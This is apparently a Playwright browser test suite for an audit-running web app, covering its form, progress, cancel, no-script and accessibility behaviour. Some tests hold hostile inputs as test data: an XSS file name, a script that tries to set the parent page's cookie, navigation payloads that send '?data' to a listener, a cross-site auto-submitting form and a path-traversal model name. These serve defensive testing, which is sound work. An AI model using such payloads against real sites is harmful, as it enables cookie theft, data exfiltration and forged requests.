"""The page in a real browser: an audit started, watched, finished, opened, compared, cancelled."""

import contextlib
import re
import socket

import pytest

from helpers.browser import faults, needs_browser, opened_browser
from helpers.server import served, until

pytestmark = needs_browser
PATIENCE = 20_000  # ms


@pytest.fixture(scope="module")
def browser():
    with opened_browser() as started:
        yield started


@pytest.fixture
def address(folders, fake):
    """A real server over the folders, ended afterwards."""
    with served(*folders, fake.script) as (_process, where):
        yield where


@pytest.fixture
def page(browser, address):
    """The first page; at the end the browser must have had nothing to complain about."""
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    made = context.new_page()
    made.set_default_timeout(PATIENCE)
    complaints = []
    made.on("console", lambda message: complaints.append(message.text) if message.type == "error" else None)
    made.on("pageerror", lambda problem: complaints.append(str(problem)))
    made.goto(address)
    yield made
    context.close()
    assert [c for c in complaints if "status of 400" not in c] == []  # a form that was not taken


def start(page, model, data, budget):
    page.fill("#model", model)
    page.fill("#data", data)
    page.fill("#budget", budget)
    page.click("#start button")


def counted(page):
    found = re.search(r"(\d+) of 40", page.text_content("#live") or "")
    return found and found.group(1)


def test_an_audit_from_the_form_to_its_page_and_two_compared(page, folders, two_runs):
    page.reload()
    page.click("#files >> text=use as model")  # by htmx: the rest of the form stays as it is
    page.wait_for_selector("#model[value='net.onnx']")
    page.click("#files .items >> text=scenes >> nth=0")
    page.click("text=Use this folder as dataset")
    page.wait_for_selector("#data[value='scenes']")
    page.fill("#budget", "1m")
    page.fill("#fail-if", "noise.map50.points_lost > 2")
    page.focus("#start form button")
    page.keyboard.press("Enter")
    page.wait_for_selector(".job.running progress[value]")
    first = counted(page)
    until(lambda: counted(page) != first)
    assert "running" in page.text_content("#announcement")
    page.fill("#fail-if", "still typed")
    page.focus(".job button")
    (folders[1] / "go").touch()
    page.wait_for_selector(".job.done")
    assert page.input_value("#fail-if") == "still typed"  # nothing was reloaded
    until(lambda: page.text_content("#announcement") == "No audit is running")
    until(lambda: len(page.query_selector_all("#run-list tbody tr:not(.group)")) == 3)
    page.click("#run-list tbody tr:not(.group) >> nth=0 >> a")
    report = page.frame_locator("iframe")
    assert report.locator("h1").text_content() == "The page of the audit"
    page.go_back()
    for number in (0, 1):
        page.check(f"#run-list tbody tr:not(.group) >> nth={number} >> input")
    page.click("#run-list button")
    page.wait_for_url(re.compile("/compare"))
    assert "net" in report.locator("h1").first.text_content()


def test_one_is_cancelled_while_it_runs(page, folders):
    start(page, "net.onnx", "scenes", "1m")
    page.wait_for_selector(".job.running progress[value]")
    page.click(".job button")
    page.wait_for_selector(".job.cancelled")
    assert "completed work is saved" in page.text_content("#live")
    assert '"cancelled"' in (folders[1] / "audit-net-on-scenes-abcdef" / "progress.json").read_text()


def test_the_cancel_button_keeps_the_focus_while_the_rest_moves(page):
    start(page, "net.onnx", "scenes", "1m")
    page.wait_for_selector(".job.running progress[value]")
    page.focus(".job button")
    first = counted(page)
    until(lambda: counted(page) != first)
    assert page.evaluate("document.activeElement.textContent").startswith("Cancel")
    page.keyboard.press("Enter")
    page.wait_for_selector(".job.cancelled")


def test_a_form_that_is_not_taken_says_why_and_keeps_what_was_typed(page):
    start(page, "../secret/secret.onnx", "scenes", "1m")
    assert "below the root" in page.text_content("[role=alert]")
    assert page.input_value("#model") == "../secret/secret.onnx"


def test_hostile_names_stay_text_and_hostile_pages_stay_alone(page, folders, two_runs):
    root = folders[0]
    (root / "<img src=x onerror=document.title='bad'>.onnx").touch()
    (two_runs[1] / "report.html").write_text(
        "<title>quiet</title><script>try{parent.document.cookie='a=b';localStorage.a=1;document.title='bad'}"
        "catch(e){document.title='alone'};fetch('/').then(()=>document.title='bad').catch(()=>0)</script>"
    )
    page.reload()
    page.wait_for_selector("#files >> text=onerror")
    assert page.title() == "Runs – holdfast"
    other = page.context.new_page()
    other.goto(page.url + page.get_attribute("#run-list tbody a >> nth=0", "href").lstrip("/"))
    report = other.frames[1]
    until(lambda: report.title() not in ("", "quiet"))
    assert report.title() == "alone"
    assert other.title() == "Report – holdfast"


@pytest.mark.parametrize(
    "escape",
    [
        "<script>location = ADDRESS</script>",
        "<script>top.location = ADDRESS</script>",
        "<script>open(ADDRESS)</script>",
        "<a href=ADDRESS target=_top>x</a><script>document.links[0].click()</script>",
        "<a href=ADDRESS>x</a><script>document.links[0].click()</script>",
        "<meta http-equiv=refresh content='0;url=PLAIN'>",
    ],
)
def test_a_report_cannot_send_its_data_by_navigating(browser, two_runs, address, escape):
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(1.0)
        target = f"http://127.0.0.1:{listener.getsockname()[1]}/?data"
        markup = escape.replace("ADDRESS", f"'{target}'").replace("PLAIN", target)
        (two_runs[1] / "report.html").write_text(f"<title>loaded</title>{markup}")
        page = browser.new_page()
        page.goto(address)
        page.goto(page.url + page.get_attribute("#run-list tbody a >> nth=0", "href").lstrip("/"))
        page.wait_for_selector("iframe")
        sent = b""
        # The browser may connect ahead of its decision.
        with contextlib.suppress(TimeoutError), listener.accept()[0] as connection:
            connection.settimeout(1.0)
            sent = connection.recv(1000)
        assert sent == b""
    assert page.title() == "Report – holdfast"
    page.close()


def test_another_site_cannot_start_one(page, browser, address, tmp_path):
    other = tmp_path / "evil.html"
    other.write_text(
        f"<form method=post action='{address}start'><input name=model value=net.onnx>"
        "<input name=data value=scenes><input name=budget value=1m></form>"
        "<script>document.forms[0].submit()</script>"
    )
    visitor = browser.new_page()
    visitor.goto(other.as_uri())
    visitor.wait_for_url(re.compile("/start"))
    assert "another site" in visitor.text_content("[role=alert]")
    visitor.close()
    page.reload()
    assert page.query_selector(".job") is None


def test_without_script_all_of_it_works(browser, address, folders):
    context = browser.new_context(java_script_enabled=False)
    page = context.new_page()
    page.set_default_timeout(PATIENCE)
    page.goto(address)
    page.click("#files >> text=use as model")
    assert page.input_value("#model") == "net.onnx"
    page.fill("#data", "scenes")
    page.fill("#budget", "1m")
    page.click("#start button")
    page.click("noscript a")
    page.wait_for_selector(".job.running progress[value]")
    (folders[1] / "go").touch()
    page.wait_for_selector(".job.done")  # the page has reloaded by itself
    page.click("text=All runs")
    page.wait_for_selector("#run-list tbody tr:not(.group)")
    context.close()


@pytest.mark.parametrize(("scheme", "width"), [("light", 1440), ("dark", 390)])
def test_axe_finds_no_serious_fault_and_nothing_is_wider_than_the_window(
    browser, address, two_runs, scheme, width
):
    size = {"width": width, "height": 900}
    context = browser.new_context(color_scheme=scheme, viewport=size, bypass_csp=True)
    page = context.new_page()
    page.set_default_timeout(PATIENCE)
    page.goto(address)
    start(page, "net.onnx", "scenes", "1m")
    page.wait_for_selector(".job.running progress[value]")
    assert page.evaluate("document.documentElement.scrollWidth") == width
    assert faults(page) == []
    page.goto(f"{address}files")
    assert faults(page) == []
    page.goto(f"{address}nowhere")
    assert faults(page) == []
    context.close()
